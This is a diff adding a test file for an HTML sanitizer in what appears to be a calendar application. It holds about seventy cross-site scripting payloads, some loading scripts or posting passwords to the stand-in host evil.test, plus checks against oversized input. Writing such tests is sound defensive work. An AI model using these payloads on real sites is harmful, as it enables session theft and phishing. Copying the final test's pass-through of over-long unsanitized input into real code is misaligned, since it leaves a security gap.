@@ -1,0 +1,149 @@
+import { STRING_MAX_BYTES } from '@assembly/contract/limits';
+import { describe, expect, test } from 'vitest';
+import { safeHtml } from './safe-html.ts';
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\x20type="text/javascript">alert(1);</script>',
+  '<script/x>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"//>',
+  '<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>',
+  '<img src=`javascript:alert(1)`>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="java\0script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="blob:https://evil.test/1">x</a>',
+  '<a href="//evil.test/x">x</a>',
+  '<a href="ftp://evil.test">x</a>',
+  '<a href="tel:+41">x</a>',
+  '<a href="https://good.test" onclick="alert(1)">x</a>',
+  '<a href="https://good.test" style="position:fixed;inset:0">x</a>',
+  '<a href="https://good.test" target="_self" rel="opener">x</a>',
+  '<a href="https://good.test" ping="https://evil.test" download>x</a>',
+  '<a href="https://good.test" id="root" name="currentUser" class="dialog">x</a>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p onmouseover=alert(1)>x</p>',
+  '<b onfocus=alert(1) tabindex=1 autofocus>x</b>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="https://evil.test/x.swf">',
+  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<style>@import "https://evil.test/x.css";</style>',
+  '<link rel=stylesheet href="https://evil.test/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '<base href="https://evil.test/">',
+  '<body onload=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<x onclick=alert(1) contenteditable>x</x>',
+  '<a/href="javascript:alert(1)">x</a>',
+  '<a href=javascript:alert(1)//',
+  '<b><a href="https://good.test"><img src=x onerror=alert(1)',
+  '"><script>alert(1)</script>',
+  '\u003cscript\u003ealert(1)\u003c/script\u003e',
+  '<h1 onclick=alert(1)>x</h1><div onclick=alert(1)>y</div>',
+];
+
+const TAG = /<(\/?)([a-z0-9]+)((?:\s+[a-z-]+="[^"]*")*)\s*(\/?)>/g;
+const TAGS = ['p', 'br', 'b', 'strong', 'i', 'em', 'u', 's', 'ul', 'ol', 'li', 'a', 'blockquote'];
+
+/** Reads the result as strictly as can be: whatever is not a tag of the list, spelled plainly, is a fault. */
+function faultsOf(html: string): string[] {
+  const faults: string[] = [];
+  const rest = html.replace(TAG, (_tag, _slash, name: string, attributes: string) => {
+    if (!TAGS.includes(name)) faults.push(`<${name}>`);
+    for (const [, key = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
+      if (name !== 'a' || !['href', 'rel', 'target'].includes(key)) faults.push(`${name} ${key}`);
+      if (key === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) faults.push(value);
+      if (key === 'rel' && value !== 'noopener noreferrer') faults.push(`rel ${value}`);
+      if (key === 'target' && value !== '_blank') faults.push(`target ${value}`);
+    }
+    if (name === 'a' && _slash === '' && !/ rel="noopener noreferrer"/.test(attributes)) {
+      faults.push('a link that hands over the window');
+    }
+    return '';
+  });
+  if (/[<>]/.test(rest)) faults.push(rest);
+  return faults;
+}
+
+describe('whoever writes into the calendar cannot', () => {
+  test('be short of ideas', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(60));
+
+  test.each(HOSTILE)('do harm with %j', (html) => {
+    const safe = safeHtml(html);
+    expect(faultsOf(safe)).toEqual([]);
+    // What has been made safe stays as it is.
+    expect(faultsOf(safeHtml(safe))).toEqual([]);
+  });
+
+  test.each([
+    ['tags that never close', '<b>'.repeat(100_000)],
+    ['as many of them as are read', '<b>'.repeat(5000)],
+    ['tags that never end', '<a href="'.repeat(100_000)],
+    ['a forest of comments', '<!--'.repeat(100_000)],
+    ['nothing but ampersands', '&'.repeat(300_000)],
+    ['tags within tags', `${'<ul><li>'.repeat(50_000)}${'</li></ul>'.repeat(50_000)}`],
+  ])('keep the sync busy with %s', (_title, html) => {
+    const before = performance.now();
+    expect(faultsOf(safeHtml(html))).toEqual([]);
+    expect(performance.now() - before).toBeLessThan(2000);
+  });
+});
+
+describe('a description keeps', () => {
+  test.each([
+    ['bold, italic and line breaks', '<b>a</b><br><i>b</i>', '<b>a</b><br /><i>b</i>'],
+    ['lists', '<ul><li>a</li></ul><ol><li>b</li></ol>', '<ul><li>a</li></ul><ol><li>b</li></ol>'],
+    ['plain text with signs', 'Fish & chips < 5', 'Fish &amp; chips &lt; 5'],
+    ['line breaks of plain text', 'one\ntwo', 'one\ntwo'],
+    ['headings, as strong text', '<h1>Title</h1>', '<strong>Title</strong>'],
+    ['paragraphs made of anything', '<div>a</div>', '<p>a</p>'],
+    ['the text of what it may not keep', '<font color=red>red</font>', 'red'],
+    [
+      'links to pages and addresses',
+      '<a href="https://example.org/?a=1&b=2">x</a> <a href="mailto:a@example.org">y</a>',
+      '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a> <a href="mailto:a@example.org" rel="noopener noreferrer" target="_blank">y</a>',
+    ],
+    ['emoji and right-to-left text', '🙏 שלום', '🙏 שלום'],
+  ])('%s', (_title, html, expected) => {
+    expect(safeHtml(html)).toBe(expected);
+  });
+});
+
+test('what is too long to be kept is not even read', () => {
+  const long = 'x'.repeat(STRING_MAX_BYTES + 1);
+  expect(safeHtml(long)).toBe(long);
+});
